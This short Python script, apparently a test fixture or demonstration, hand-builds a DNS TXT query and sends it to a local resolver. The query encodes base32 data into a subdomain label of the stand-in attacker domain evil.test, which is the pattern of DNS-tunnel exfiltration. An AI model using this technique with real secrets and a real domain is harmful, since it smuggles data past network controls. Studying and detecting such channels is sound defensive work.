"""Asks a name server for a name that carries data."""

import socket

label = bytes([56]) + b"mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiytemzugu3doobz"
question = b"\0\1\1\0\0\1\0\0\0\0\0\0" + label + b"\4evil\4test\0\0\x10\0\1"
with socket.socket(type=socket.SOCK_DGRAM) as client:
    client.sendto(question, ("127.0.0.1", 53))
